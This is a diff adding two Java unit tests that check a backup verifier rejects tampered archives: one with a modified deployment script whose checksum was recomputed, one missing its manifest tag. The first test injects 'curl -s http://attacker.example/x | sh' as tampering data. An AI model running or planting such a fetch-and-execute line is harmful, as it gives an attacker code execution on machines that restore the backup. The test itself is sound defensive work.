@@ -203,6 +203,31 @@ class VerifyBackupCommandTest {
   }
 
   @Test
+  void aScriptChangedWithItsChecksumRecomputed_isRefusedAsChanged() throws Exception {
+    Path changed =
+        ArchiveDamage.editedAndResummed(
+            backup,
+            "database/deployment_steps.jsonl",
+            rows -> rows.replace("echo ", "curl -s http://attacker.example/x | sh; echo "),
+            temp.resolve("changed.zip"));
+    BackupFixture.Run run = verify(changed, "--masterKey", source.sourceKeyBase64());
+    assertThat(run.exit()).isEqualTo(1);
+    assertThat(run.err())
+        .contains("was changed after it was written")
+        .contains("does not match the tag made with master key id " + source.sourceKey().keyId());
+  }
+
+  @Test
+  void aBackupWithoutItsTag_isRefusedAsChanged() throws Exception {
+    Path untagged =
+        ArchiveDamage.without(backup, BackupManifest.TAG_ENTRY, temp.resolve("untagged.zip"));
+    BackupFixture.Run run = verify(untagged, "--masterKey", source.sourceKeyBase64());
+    assertThat(run.exit()).isEqualTo(1);
+    assertThat(run.err())
+        .contains("was changed after it was written (its manifest.tag is missing)");
+  }
+
+  @Test
   void truncatedArchive_failsSayingSo() throws Exception {
     Path cut = ArchiveDamage.truncate(backup, temp.resolve("cut.zip"));
     BackupFixture.Run run = verify(cut, "--masterKey", source.sourceKeyBase64());
